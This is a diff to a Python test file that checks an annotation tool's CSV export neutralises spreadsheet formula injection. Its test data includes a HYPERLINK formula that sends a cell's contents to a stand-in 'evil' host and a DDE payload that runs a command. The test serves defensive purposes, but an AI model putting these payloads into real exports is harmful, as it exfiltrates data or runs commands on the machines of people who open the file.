@@ -19,8 +19,15 @@ from annotations.export import export
 from annotations.export.csv_fmt import neutralise
 from annotations.store import Store
 
-DANGEROUS = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB",
-             "\rCR", "=cmd|' /C calc'!A0"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil/?"&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTAB",
+    "\rCR",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def store_with(values: list[str], path: Path | None = None) -> Store:
@@ -29,8 +36,7 @@ def store_with(values: list[str], path: Path | None = None) -> Store:
         text = f"{value} is claim {n}."
         doc, _ = store.add_document(text, title=value)
         store.annotator = value
-        store.add_claim(doc.id, 0, len(value), "opinion", speaker=value, target=value,
-                        note=value)
+        store.add_claim(doc.id, 0, len(value), "opinion", speaker=value, target=value, note=value)
     return store
 
 
@@ -68,12 +74,14 @@ def test_the_cli_flag(tmp_path: Path) -> None:
     store_with(DANGEROUS, tmp_path / "c.db").close()
     runner = CliRunner()
     safe = runner.invoke(cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "csv"])
-    raw = runner.invoke(cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "csv",
-                              "--csv-raw"])
+    raw = runner.invoke(
+        cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "csv", "--csv-raw"]
+    )
     assert safe.exit_code == raw.exit_code == 0
     safe_titles = [r["doc_title"] for r in csv.DictReader(io.StringIO(safe.stdout, newline=""))]
     raw_titles = [r["doc_title"] for r in csv.DictReader(io.StringIO(raw.stdout, newline=""))]
     assert safe_titles == ["'" + v for v in DANGEROUS] and raw_titles == DANGEROUS
-    wrong = runner.invoke(cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "json",
-                                "--csv-raw"])
+    wrong = runner.invoke(
+        cli, ["--db", str(tmp_path / "c.db"), "export", "--format", "json", "--csv-raw"]
+    )
     assert wrong.exit_code != 0 and "csv" in wrong.output
